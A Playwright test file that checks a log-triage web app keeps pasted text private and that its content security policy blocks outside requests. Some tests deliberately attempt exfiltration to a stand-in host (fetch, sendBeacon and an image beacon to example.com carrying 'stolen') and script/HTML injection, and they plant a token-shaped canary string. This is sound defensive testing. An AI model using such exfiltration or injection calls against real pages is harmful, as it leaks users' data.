import { expect, night, test } from './kit'

/** Long enough to be no word of the app; each stands in the paste once. */
const planted = ['zq7-host-of-mine', 'kx9.internal.example', 'ghp_16C7e42F292c6912E7710c838347Ae178B4a']

test('paste, verdict, share: no request carries a byte of the paste, and none leaves this origin', async ({
  page,
  triage,
  baseURL,
}) => {
  const asked: { url: string; body: string | null; method: string }[] = []
  page.context().on('request', (r) => asked.push({ url: r.url(), body: r.postData(), method: r.method() }))
  await triage.open()
  await triage.add(`${planted.join('\n')}\n${night.pasted}`)
  await expect(triage.stamp).toHaveAttribute('data-stamp', 'diagnosed')
  await page.getByRole('button', { name: /^Share/ }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  expect(asked.length).toBeGreaterThan(3)
  const words = [...planted, 'nf_nat_ipv4', 'docker0']
  for (const { url, body, method } of asked) {
    expect(new URL(url).origin).toBe(new URL(baseURL ?? '').origin)
    expect(method).toBe('GET')
    expect(body).toBeNull()
    for (const word of words) expect(decodeURIComponent(url)).not.toContain(word)
  }
})

for (const path of ['/en/', '/zh/triage/', '/en/notes/stale-kernel-docker/', '/404.html'])
  test(`${path}: the browser refuses foreign requests, injected scripts and HTML from text`, async ({
    browser,
    baseURL,
  }) => {
    const page = await browser.newPage({ baseURL })
    await page.goto(path)
    const tried = await page.evaluate(async () => {
      const outcome = async (work: () => unknown): Promise<string> => {
        try {
          await work()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      const inline = document.createElement('script')
      const foreign = await outcome(() => fetch('https://example.com/?stolen'))
      const beacon = navigator.sendBeacon('https://example.com/', 'stolen')
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
      const html = await outcome(() => {
        document.createElement('div').innerHTML = '<img src=x>'
      })
      const text = await outcome(() => {
        inline.textContent = 'window.ran = true'
      })
      const address = await outcome(() => {
        document.createElement('script').src = 'https://example.com/x.js'
      })
      const picture = new Image()
      const refused = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => e.effectiveDirective === 'img-src' && resolve())
      })
      picture.src = 'https://example.com/?stolen'
      await refused
      return { foreign, beacon, html, text, address, ran: 'ran' in window, violations }
    })
    expect(tried).toMatchObject({
      foreign: 'TypeError',
      html: 'TypeError',
      text: 'TypeError',
      address: 'TypeError',
      ran: false,
    })
    expect(tried.violations).toContain('img-src')
    await page.close()
  })
